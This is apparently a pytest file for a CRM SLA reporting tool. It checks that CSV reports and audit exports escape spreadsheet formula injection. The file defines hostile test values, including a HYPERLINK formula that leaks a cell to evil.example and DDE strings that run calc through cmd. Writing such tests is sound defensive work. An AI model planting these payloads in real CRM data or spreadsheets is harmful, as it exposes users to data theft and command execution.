"""Every CSV the project writes neutralises CRM text a spreadsheet would run as a formula (a cell
starting with = + - @, a tab or a carriage return gets a single quote in front, the OWASP rule):
the report attachments and `leadsla audit export`, on SQLite and PostgreSQL; numbers stay numbers.
The unit rules and the one-writer check are in tests/unit/test_csv_cells.py."""

from __future__ import annotations

import csv
import datetime as dt

from leadsla.cli import main
from leadsla.store.audit import AuditContext, record
from tests.reports_data import Builder, t

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
DDE = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def _cells(path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_report_attachments_carry_crm_text_as_text(store, store_url, tmp_path) -> None:
    b = Builder().user("R1", "Rita", "A")
    for i, (source, campaign) in enumerate(
        [(HYPERLINK, DDE), (SUM, "\tTAB"), (MINUS, "\rCR"), ("Web", "Plain")]
    ):
        b.lead(
            f"00Q{i}",
            owner="R1",
            source=source,
            campaign=campaign,
            stages={"MQL": t(f"2026-11-{16 + i} 15:00"), "SAL": t(f"2026-11-{16 + i} 16:00")},
        )
    # An AE whose CRM name is a formula, breaching the demo-to-proposal handoff: the matrix's CSVs.
    b.user("AE1", HYPERLINK, "ae", role="AE")
    b.deal("006A", owner="AE1", created=t("2026-11-16 14:00"), amount=1000.0)
    demo = t("2026-11-17 14:00")
    breached = t("2026-11-20 14:00")
    b.clock(
        "006A",
        demo,
        target_h=24,
        elapsed_h=30,
        owner="AE1",
        team="ae",
        breached_at=breached,
        sla_id="demo_to_proposal",
        object_type="Opportunity",
    )
    b.write(store)
    out = tmp_path / "report"
    at = "2026-11-23T13:00:00+00:00"
    assert (
        main(
            [
                "report",
                "feedback",
                "--period",
                "2026-W47",
                "--at",
                at,
                "--out",
                str(out),
                "--store",
                store_url,
            ]
        )
        == 0
    )
    sources = _cells(out / "feedback_2026-W47_sources.csv")
    campaigns = _cells(out / "feedback_2026-W47_campaigns.csv")
    for hostile in (HYPERLINK, SUM, MINUS):
        assert "'" + hostile in sources and hostile not in sources
    for hostile in (DDE, "\tTAB", "\rCR"):
        assert "'" + hostile in campaigns and hostile not in campaigns
    owners = _cells(out / "feedback_2026-W47_handoff_demo_to_proposal.csv")
    matrix = _cells(out / "feedback_2026-W47_handoffs.csv")
    assert "'" + HYPERLINK in owners and HYPERLINK not in owners
    worst = next(cell for cell in matrix if HYPERLINK in cell)
    assert worst.startswith("'" + HYPERLINK)  # the worst owners' cell starts with the name
    assert "Web" in sources and "Plain" in campaigns  # plain text untouched
    every = sources + campaigns + owners + matrix
    assert not [cell for cell in every if cell[:1] in ("=", "+", "@", "\t", "\r")]
    # Figures are written as numbers (a share may be 0, a count 1), never quoted.
    assert any(cell.replace(".", "", 1).isdigit() for cell in every)


def test_the_audit_export_carries_crm_text_as_text(store, store_url, tmp_path) -> None:
    with store.begin() as conn:
        record(
            conn,
            "reassignment",
            at=dt.datetime(2026, 11, 2, 10, tzinfo=dt.UTC),
            context=AuditContext(dag_id="sla_monitor", run_id="-1", task_id="escalate", try_number=1),
            record_id="@SUM(1+1)",
            actor=HYPERLINK,
            detail={"owner": DDE},
        )
    target = tmp_path / "audit.csv"
    argv = ["audit", "export", "--from", "2026-11-01", "--to", "2026-11-03", "--out", str(target)]
    assert main([*argv, "--store", store_url]) == 0
    with target.open(newline="", encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["record_id"] == "'@SUM(1+1)" and row["actor"] == "'" + HYPERLINK and row["run_id"] == "'-1"
    assert row["try_number"] == "1" and row["detail"].startswith("{")  # JSON, its text inside quotes
    assert row["event"] == "reassignment"
